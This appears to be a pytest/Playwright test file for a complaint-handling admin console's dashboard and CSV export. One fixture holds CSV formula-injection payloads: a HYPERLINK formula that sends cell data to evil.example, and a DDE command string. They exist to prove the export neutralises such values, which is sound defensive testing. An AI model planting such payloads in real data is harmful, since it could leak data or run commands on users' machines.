"""The dashboard's figures are the store's, overdue cases are flagged; the CSV export holds what the filter asks for,
readable by spreadsheet programs, in pages that neither repeat nor drop a case."""
from __future__ import annotations

import csv
import json
import io
from datetime import timedelta

import pytest
from playwright.async_api import Browser
from sqlalchemy import update

from channels.web.console.admin import export
from channels.web.console.names import channel_name
from gateway.delivery.sender import Deliverer
from gateway.domain import Channel
from gateway.delivery.payload import case_number
from gateway.store.clock import as_utc, utcnow
from gateway.store.models import CaseRow, FeedbackRow
from gateway.store.store import CaseFilter
from tests.console.admin.conftest import LAMP, admin_page, report
from tests.console.conftest import MakeUser
from tests.support.receiver import Receiver
from tests.web.conftest import Site

LITTER = {"text": "小区门口垃圾堆了好几天没人清理", "class_id": "ev-2013-0111", "channel": "web", "location": {"lat": 31.35, "lon": 120.66}}


def exported_rows(text: str, lang: str = "zh") -> list[dict[str, str]]:
    """The rows of an export by column; the header row is in the reader's language."""
    reader = csv.reader(io.StringIO(text))
    assert next(reader) == export.headers(lang)
    return [dict(zip(export.COLUMNS, row)) for row in reader]


async def three_cases(console: Site, key: str, deliverer: Deliverer, receiver: Receiver) -> list[int]:
    """One delivered, one dead letter, one pending and overdue; three 回访 answers."""
    ids = [await report(console, key, **LAMP), await report(console, key, **LITTER),
           await report(console, key, **(LAMP | {"text": "公园路的路灯白天一直亮着", "location": {"lat": 31.28, "lon": 120.58}}))]
    delivered, dead, _ = [(await console.store.deliveries(case_id=i))[0].id for i in ids]
    assert await deliverer.deliver(delivered) == "delivered"
    receiver.script = [422]
    assert await deliverer.deliver(dead) == "dead"
    async with console.store.transaction() as tx:
        await tx.session.execute(update(CaseRow).where(CaseRow.id == ids[2]).values(due_at=utcnow() - timedelta(hours=3)))
        for answer in ("satisfied", "satisfied", "dissatisfied"):
            tx.session.add(FeedbackRow(case_id=ids[0], answer=answer, channel="web", created_at=utcnow()))
    return ids


async def test_dashboard_numbers_are_the_stores(browser: Browser, console: Site, make_user: MakeUser, key: str, deliverer: Deliverer,
                                                receiver: Receiver) -> None:
    ids = await three_cases(console, key, deliverer, receiver)
    page = await admin_page(browser, console, make_user, "/console/admin/?days=7", locale="en-GB", language="en")
    assert await page.inner_text("#fig-cases") == str((await console.store.cases(CaseFilter()))[1]) == "3"
    assert await page.inner_text("#fig-success") == "50.0%"
    legends = await page.locator("#chart-channel").evaluate("c => window.Chart.getChart(c).data.datasets.map(d => d.label)")
    assert legends and set(legends) <= {channel_name(c.value, "en") for c in Channel}, legends
    assert "Web form" in (await page.text_content("#channel-totals") or "")
    assert await page.inner_text("#fig-dead") == "1" and await page.inner_text("#fig-pending") == "1"
    case = await console.store.case(ids[0])
    [delivery] = await console.store.deliveries(case_id=ids[0])
    assert case is not None and delivery.delivered_at is not None
    seconds = (as_utc(delivery.delivered_at) - as_utc(case.created_at)).total_seconds()
    assert seconds < 90 and await page.inner_text("#fig-median") == f"{round(seconds)} s", "seconds, not 0.0 h"
    overdue, total = await console.store.cases(CaseFilter(overdue=True))
    assert await page.inner_text("#fig-overdue") == str(total) == "1"
    assert case_number(overdue[0].id, overdue[0].created_at) in await page.inner_text("#overdue")
    assert await console.store.satisfaction() == {"satisfied": 2, "dissatisfied": 1}
    assert (await page.inner_text("#sat-satisfied")).split("\t") == ["Satisfied", "2", "67%"]
    assert (await page.inner_text("#sat-dissatisfied")).split("\t") == ["Not satisfied", "1", "33%"]
    assert "No map tiles are configured" in await page.inner_text("#no-map")
    assert (await page.inner_text("#hotspots tbody tr:first-child td")) == "1"
    assert await page.locator("#chart-class").evaluate("c => window.Chart.getChart(c).data.datasets.map(d => d.data.reduce((a, b) => a + b))") == [2, 1]
    await page.context.close()


async def test_csv_export_holds_the_filtered_cases_for_excel(browser: Browser, console: Site, make_user: MakeUser, key: str,
                                                             deliverer: Deliverer, receiver: Receiver, monkeypatch: pytest.MonkeyPatch) -> None:
    ids = await three_cases(console, key, deliverer, receiver)
    monkeypatch.setattr(export, "PAGE", 2)  # several pages even for three cases
    page = await admin_page(browser, console, make_user, "/console/admin/export")
    async with page.expect_download() as download:
        await page.click("form button.primary")
    raw = (await (await download.value).path()).read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = exported_rows(raw.decode("utf-8-sig"))
    assert [r["case_number"] for r in rows] == [case_number(c.id, c.created_at) for c in (await console.store.cases(CaseFilter()))[0]]
    assert {r["text"] for r in rows} >= {LAMP["text"], LITTER["text"]}
    assert {r["class_name"] for r in rows} == {"路灯", "积存垃圾渣土"} and rows[0]["status"] == "已转送"

    await page.goto("/console/admin/export")
    await page.select_option("#class_id", "cp-0118")
    await page.check("#overdue")
    async with page.expect_download() as download:
        await page.click("form button.primary")
    rows = exported_rows((await (await download.value).path()).read_text(encoding="utf-8-sig"))
    assert [(r["case_number"], r["overdue"]) for r in rows] == [(case_number(ids[2], (await console.store.case(ids[2])).created_at), "1")]  # type: ignore[union-attr]

    response = await page.goto("/console/admin/export.csv?since=2026-13-01")
    assert response is not None and response.status == 400
    assert "since 不是有效日期" in await page.inner_text("#export-error")
    assert [a.action for a in await console.store.audit_of("cases", "export")] == ["exported", "exported"]
    await page.context.close()


FORMULAS = {"text": '=HYPERLINK("http://evil.example/?d="&A1,"路灯不亮")', "address": "@SUM(1+1)*cmd|' /C calc'!A0",
            "class_id": "cp-0118", "location": {"lat": 31.31, "lon": 120.61}}


async def test_csv_export_hands_no_formula_to_a_spreadsheet(browser: Browser, console: Site, make_user: MakeUser, key: str) -> None:
    """A citizen's text that a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported as text."""
    await report(console, key, **FORMULAS)
    await report(console, key, **(FORMULAS | {"text": "+86 路灯坏了", "address": "-1+1 人民路", "location": {"lat": 31.33, "lon": 120.64}}))
    page = await admin_page(browser, console, make_user, "/console/admin/export")
    async with page.expect_download() as download:
        await page.click("form button.primary")
    rows = exported_rows((await (await download.value).path()).read_text(encoding="utf-8-sig"))
    assert {(r["text"], r["address"]) for r in rows} == {("'" + FORMULAS["text"], "'" + FORMULAS["address"]), ("'+86 路灯坏了", "'-1+1 人民路")}
    assert {r["lat"] for r in rows} == {"31.310000", "31.330000"}
    await page.context.close()


@pytest.mark.parametrize("value, exported", [("=1+2", "'=1+2"), ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("-", "'-"),
                                             ("-120.500000", "-120.500000"), ("人民路 = 1", "人民路 = 1"), ("", "")])
def test_a_cell_beginning_like_a_formula_is_marked_as_text(value: str, exported: str) -> None:
    assert export.cell(value) == exported


async def test_wechat_cases_in_the_channel_breakdown(browser: Browser, console: Site, make_user: MakeUser, key: str) -> None:
    await report(console, key, **(LITTER | {"channel": "wechat"}))
    await report(console, key, **LAMP)
    page = await admin_page(browser, console, make_user, "/console/admin/?days=7", locale="en-GB", language="en")
    data = json.loads(await page.locator("#dashboard-data").text_content() or "{}")
    assert {name: sum(counts) for name, counts in data["by_channel"]} == {"WeChat": 1, channel_name(LAMP.get("channel", "api"), "en"): 1}
    await page.context.close()
